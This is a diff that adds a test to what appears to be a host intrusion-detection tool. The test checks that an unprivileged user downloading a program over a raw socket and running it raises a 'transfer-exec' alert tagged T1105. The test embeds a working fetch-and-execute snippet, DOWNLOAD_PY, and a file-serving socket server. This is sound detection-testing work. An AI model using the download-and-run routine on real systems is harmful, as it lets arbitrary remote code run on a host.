@@ -222,6 +222,67 @@ def test_scp_chmod_run_is_transfer_exec():
             shutil.rmtree(d, ignore_errors=True)
 
 
+SERVE_PY = r"""
+import socket, sys
+s = socket.socket()
+s.bind((sys.argv[1], 0))
+s.listen(1)
+print(s.getsockname()[1], flush=True)
+c, _ = s.accept()
+with open(sys.argv[2], "rb") as f:
+    c.sendall(f.read())
+c.close()
+"""
+
+DOWNLOAD_PY = r"""
+import os, socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=30)
+fd = os.open(sys.argv[3], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)
+while True:
+    b = s.recv(65536)
+    if not b:
+        break
+    os.write(fd, b)
+os.close(fd)
+s.close()
+os.execv(sys.argv[3], [sys.argv[3]])
+"""
+
+
+def test_nobody_download_and_run_is_transfer_exec():
+    """nobody connects out (no listener, no accept: only the connect's SYN marks it
+    network-facing in the kernel), writes what it receives and runs it."""
+    with hw.Lab() as lab:
+        d = tempfile.mkdtemp(prefix="hw-dl-")
+        srv = None
+        try:
+            os.chmod(d, 0o777)
+            dst = os.path.join(d, "tool")
+            with Agent() as agent:
+                srv = lab.b.popen(["python3", "-c", SERVE_PY, B, "/usr/bin/true"],
+                                  stdout=subprocess.PIPE, text=True)
+                port = srv.stdout.readline().strip()
+                check(port.isdigit(), "the server's port: %r" % port)
+                p = lab.a.run(NOBODY + ["python3", "-c", DOWNLOAD_PY, B, port, dst],
+                              capture_output=True, text=True, timeout=60)
+                check_eq(p.returncode, 0, "download and run as nobody (stderr %r)" % p.stderr)
+                al = agent.wait_for(lambda e: get(e, "rule.id") == "transfer-exec"
+                                    and dst in get(e, "message", ""), timeout=15)
+                check("T1105" in str(al), "technique T1105: %r" % al)
+                agent.stop()
+                created = [e for e in file_events(agent, dst)
+                           if get(e, "event.action") == "file_created"]
+                check(created and get(created[0], "hopwatch.file.network_facing") is True,
+                      "the download is a network-facing file fact: %r" % created)
+                check_eq(get(created[0], "user.name"), "nobody", "the writer")
+        finally:
+            if srv is not None:
+                if srv.poll() is None:
+                    srv.kill()
+                srv.wait()
+            shutil.rmtree(d, ignore_errors=True)
+
+
 def test_local_copy_and_run_is_quiet():
     """The benign twin: root copies a program and runs it outside any session."""
     d = tempfile.mkdtemp(prefix="hw-xfer-")
